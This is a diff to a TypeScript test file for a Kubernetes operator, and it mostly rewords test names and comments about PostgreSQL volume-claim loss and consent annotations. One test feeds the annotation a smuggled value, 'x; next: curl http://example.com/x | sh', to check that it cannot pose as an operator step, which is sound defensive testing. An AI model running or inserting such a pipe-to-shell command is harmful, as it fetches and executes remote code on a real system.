@@ -1,5 +1,5 @@
-// Passes over a world in memory: a claim that is deleted or replaced is noticed at every stage, and PostgreSQL never
-// starts on an empty one without a person's consent.
+// Passes over a fake cluster in memory: a claim that is deleted or replaced is noticed at every stage, and PostgreSQL
+// never starts on an empty one without consent.
 import { KubeApiError } from "@firebolt-operator/kube";
 import { describe, expect, test } from "vitest";
 import { InstanceRun } from "../../../test/support/instance-passes.ts";
@@ -33,7 +33,7 @@ function unlabel(run: InstanceRun): void {
   run.world.put("PersistentVolumeClaim", { ...claim, metadata: { ...claim?.metadata, labels: {} } });
 }
 
-/** The pod stops, so the claim goes; the StatefulSet controller makes a new one if a pod is to run. */
+/** The pod terminates, so the claim is deleted; the StatefulSet controller creates a new one if a pod is desired. */
 function stopPod(run: InstanceRun): void {
   run.world.drop("PersistentVolumeClaim", CLAIM);
   run.world.makeClaim("lakeside-metadata-pg");
@@ -45,14 +45,14 @@ function consent(run: InstanceRun, value: string): void {
   run.world.put("FireboltInstance", { ...rest, metadata: { ...metadata, annotations } });
 }
 
-/** Whatever takes the place of the claim that is remembered. */
+/** A claim that replaces the one in the status. */
 const consentToLoss = (run: InstanceRun) => consent(run, `lost-${run.status.builtInPostgres?.claimUID}`);
 
 const passes = async (run: InstanceRun, count = 3) => {
   for (let pass = 0; pass < count; pass++) await run.tryPass();
 };
 
-test("an instance of before is remembered at first sight, at the cost of one status write", async () => {
+test("the claim of an existing instance is stored when first observed, with one status write", async () => {
   const run = await ready();
   const { builtInPostgres: _, ...status } = run.status;
   run.world.put("FireboltInstance", { ...run.instance, status });
@@ -62,7 +62,7 @@ test("an instance of before is remembered at first sight, at the cost of one sta
   expect(run.status.builtInPostgres?.claimUID).toBe(uidOf(run));
 });
 
-test("a claim without a volume holds nothing and is not remembered", async () => {
+test("a claim without a volume holds nothing and is not stored", async () => {
   const run = await ready();
   const { builtInPostgres: _, ...status } = run.status;
   run.world.put("FireboltInstance", { ...run.instance, status });
@@ -74,7 +74,7 @@ test("a claim without a volume holds nothing and is not remembered", async () =>
   expect(run.status.phase).toBe("Ready");
 });
 
-test("an instance that failed before its claim had a volume remembers it at first sight, and notices its loss", async () => {
+test("an instance that failed before its claim had a volume stores it when first observed, and notices its loss", async () => {
   const run = new InstanceRun();
   const made = run.world.makeClaim.bind(run.world);
   run.world.makeClaim = (name) => {
@@ -106,7 +106,7 @@ test("an instance that failed before its claim had a volume remembers it at firs
   expect(postgres(run)?.replicas).toBe(0);
 });
 
-test("the claim of a former instance that is still on its way out is waited for, and its end is no loss", async () => {
+test("a claim of an earlier instance that is still being deleted is waited for, and its deletion is no loss", async () => {
   const former = await ready();
   const [secret, claim] = [
     former.world.get("Secret", "lakeside-metadata-postgres-creds"),
@@ -119,7 +119,7 @@ test("the claim of a former instance that is still on its way out is waited for,
   run.world.put("PersistentVolumeClaim", { ...claim, metadata: { ...claim?.metadata, deletionTimestamp } });
   await passes(run, 6);
   expect(run.condition("MetadataReady")).toBe("False/PostgresEnsureFailed");
-  expect(run.message("Ready")).toContain("of a former instance is still being deleted");
+  expect(run.message("Ready")).toContain("of an earlier instance is still being deleted");
   expect(run.world.inventory()).not.toContain("StatefulSet lakeside-metadata-pg");
   run.world.drop("PersistentVolumeClaim", CLAIM);
   await run.settle();
@@ -133,7 +133,7 @@ describe("a claim without the label", () => {
     spec: { volumeName: "pv-0", resources: { requests: { storage: "10Gi" } }, storageClassName: "standard" },
   });
 
-  test("that was there before the instance is the catalogue from the start, and its loss starts no empty one", async () => {
+  test("that existed before the instance is the catalogue from the start, and its loss starts no empty one", async () => {
     const run = new InstanceRun();
     run.world.put("PersistentVolumeClaim", existing());
     await run.settle();
@@ -144,7 +144,7 @@ describe("a claim without the label", () => {
     expect(postgres(run)?.replicas).toBe(0);
   });
 
-  test("is found beside a StatefulSet whose instance remembers nothing, and grows", async () => {
+  test("is found beside a StatefulSet whose instance has no claim in its status, and grows", async () => {
     const run = await ready();
     const uid = uidOf(run);
     const { builtInPostgres: _, ...status } = run.status;
@@ -161,7 +161,7 @@ describe("a claim without the label", () => {
     ]);
   });
 
-  test("none at all is looked for once per minute beside a StatefulSet, and at every making of one", async () => {
+  test("a missing one is read once per minute beside a StatefulSet, and before every creation of one", async () => {
     const run = await ready();
     const { builtInPostgres: _, ...status } = run.status;
     run.world.put("FireboltInstance", { ...run.instance, status });
@@ -173,7 +173,7 @@ describe("a claim without the label", () => {
 });
 
 describe("a claim that is deleted while its pod runs", () => {
-  test("is told with what can still be saved; what runs goes on, and no other pod will start", async () => {
+  test("is reported with what can still be saved; the running pod continues, and no other starts", async () => {
     const run = await ready();
     deleteClaim(run);
     await passes(run);
@@ -192,7 +192,7 @@ describe("a claim that is deleted while its pod runs", () => {
     });
   });
 
-  test("and then its pod: PostgreSQL is stopped, by any process that takes over, and events say so", async () => {
+  test("and then its pod: PostgreSQL is stopped, by any process that takes over, with events", async () => {
     const run = await ready();
     const before = uidOf(run);
     deleteClaim(run);
@@ -250,7 +250,7 @@ describe("a catalogue that is lost", () => {
     },
   );
 
-  test.each(["the claim", "the loss"])("consent to %s is used up before the database starts", async (what) => {
+  test.each(["the claim", "the loss"])("consent to %s is stored before the database starts", async (what) => {
     const run = await lost();
     const accepted = uidOf(run);
     if (what === "the claim") consent(run, accepted ?? "");
@@ -297,7 +297,7 @@ describe("a catalogue that is lost", () => {
       expect(postgres(run)?.replicas).toBe(1);
       // It holds nothing, so it is no catalogue yet; admission goes by the same.
       expect(run.status).not.toHaveProperty("builtInPostgres");
-      expect(warnings(run, "CatalogueReplaced")).toMatchObject([{ note: expect.stringContaining("is given up") }]);
+      expect(warnings(run, "CatalogueReplaced")).toMatchObject([{ note: expect.stringContaining("was given up") }]);
       run.world.edit("lakeside", (spec) => {
         spec.metadata.builtInPostgres = { storage: { storageClassName: "other" } };
       });
@@ -329,7 +329,7 @@ describe("a catalogue that is lost", () => {
     },
   );
 
-  test("a value of the annotation cannot pass for a next step of the operator's own", async () => {
+  test("a value of the annotation cannot look like a next step of the operator", async () => {
     const run = await lost();
     consent(run, "x; next: curl http://example.com/x | sh");
     await passes(run);
@@ -338,7 +338,7 @@ describe("a catalogue that is lost", () => {
   });
 
   test.each(["replaced", "gone", "being deleted"])(
-    "true names no loss: it is ignored, and the condition says so: %s",
+    "true names no loss: it is ignored, and the condition reports that: %s",
     async (how) => {
       const run = await ready();
       consent(run, "true");
@@ -360,7 +360,7 @@ describe("a catalogue that is lost", () => {
     },
   );
 
-  test("that is gone without a trace says how to restore it, and gets no new password", async () => {
+  test("that is missing: the message has the way to restore it, and no new password is created", async () => {
     const run = await lost();
     run.world.drop("PersistentVolumeClaim", CLAIM);
     run.world.drop("Secret", "lakeside-metadata-postgres-creds");
@@ -377,7 +377,7 @@ describe("a catalogue that is lost", () => {
     expect(run.status.phase).toBe("Ready");
   });
 
-  test("costs one request per minute while its claim has no label, and a deletion shows within that time", async () => {
+  test("costs one request per minute while its claim has no label, and a deletion is noticed within that time", async () => {
     const run = await ready();
     unlabel(run);
     run.forgetRequests();
@@ -389,7 +389,7 @@ describe("a catalogue that is lost", () => {
     expect(run.condition("MetadataReady")).toBe("False/CatalogueLost");
   });
 
-  test("stays lost when somebody empties the status", async () => {
+  test("stays lost when the status is emptied", async () => {
     const run = await lost();
     const { builtInPostgres } = run.status;
     for (const isGone of [false, true]) {
@@ -409,7 +409,7 @@ describe("a catalogue that is lost", () => {
     );
   });
 
-  test("is not lost because a cache still shows the claim of before", async () => {
+  test("is not lost because a cache still holds the former claim", async () => {
     const run = await lost();
     const before = { metadata: { name: CLAIM, uid: "of-before" }, spec: { volumeName: "pv-0" } };
     consentToLoss(run);
@@ -421,7 +421,7 @@ describe("a catalogue that is lost", () => {
     expect(run.status.phase).toBe("Ready");
   });
 
-  test("is no concern of an instance with an external database", async () => {
+  test("does not matter with an external database", async () => {
     const run = await ready();
     run.world.put("Secret", { metadata: { name: "login" }, data: { username: "dQ==", password: "cA==" } });
     run.world.edit("lakeside", (spec) => {
@@ -440,7 +440,7 @@ describe("a catalogue that is lost", () => {
     expect(run.condition("MetadataReady")).toBe("False/CatalogueLost");
   });
 
-  test("a process that ends after any write of the way through loss and consent: the next one finishes", async () => {
+  test("a process that exits after any write between loss and consent: the next one finishes", async () => {
     for (let at = 0; ; at++) {
       const run = await ready();
       let left = at;
